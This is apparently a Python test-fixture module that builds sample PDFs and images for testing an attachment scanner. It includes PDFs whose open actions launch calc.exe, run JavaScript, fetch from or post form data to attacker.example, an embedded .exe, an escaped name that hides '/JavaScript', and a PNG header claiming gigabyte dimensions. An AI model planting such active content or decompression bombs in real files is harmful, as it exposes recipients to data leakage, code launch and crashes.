"""
Attachments built in memory for tests: real PDFs (plain, or carrying active content) and
images (a JPEG with EXIF GPS, a PNG).
"""

import os
import struct
import zlib
from io import BytesIO

from PIL import Image
from PIL.ExifTags import GPS, IFD, Base
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

# Where a phone says it was: the Eiffel Tower.
GPS_LATITUDE = (48.0, 51.0, 29.0)


def pdf(pages: int = 1, filler: int = 0) -> bytes:
    """A plain PDF; `filler` bytes of noise in an image page make it bigger."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if filler:
        width = max(filler // 100, 1)
        noise = Image.frombytes("L", (width, 100), os.urandom(width * 100))
        picture = BytesIO()
        noise.save(picture, "PDF")
        writer.append(BytesIO(picture.getvalue()))
    return _written(writer)


def pdf_with_javascript() -> bytes:
    return _with_open_action("/JavaScript", "/JS", "app.alert('hello');")


def pdf_with_launch_action() -> bytes:
    return _with_open_action("/Launch", "/F", "calc.exe")


def pdf_with_remote_file_action() -> bytes:
    return _with_open_action("/GoToR", "/F", "\\\\attacker.example\\share\\x.pdf")


def pdf_with_form_posted_away() -> bytes:
    return _with_open_action("/SubmitForm", "/F", "https://attacker.example/collect")


def _with_open_action(kind: str, key: str, value: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)}
    )
    return _written(writer)


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("invoice.exe", b"MZ\x90\x00")
    return _written(writer)


def pdf_with_escaped_javascript_name() -> bytes:
    """`/J#61vaScript` is `/JavaScript` to every reader."""
    return pdf_with_javascript().replace(b"/JavaScript", b"/J#61vaScript")


def jpeg_with_gps(size: tuple[int, int] = (64, 48)) -> bytes:
    exif = Image.Exif()
    exif[Base.Make] = "PhoneMaker"
    exif[Base.Model] = "Phone 12"
    gps = exif.get_ifd(IFD.GPSInfo)
    gps[GPS.GPSLatitudeRef] = "N"
    gps[GPS.GPSLatitude] = GPS_LATITUDE
    gps[GPS.GPSLongitudeRef] = "E"
    gps[GPS.GPSLongitude] = (2.0, 17.0, 40.0)
    out = BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, "JPEG", exif=exif, comment=b"secret note")
    return out.getvalue()


def png(size: tuple[int, int] = (40, 30)) -> bytes:
    out = BytesIO()
    Image.new("RGBA", size, (0, 120, 200, 128)).save(out, "PNG")
    return out.getvalue()


def _written(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims a size that would take gigabytes to decode."""
    data = png(size=(1, 1))
    header = b"IHDR" + struct.pack(">II", width, height) + data[24:29]
    return data[:12] + header + struct.pack(">I", zlib.crc32(header)) + data[33:]
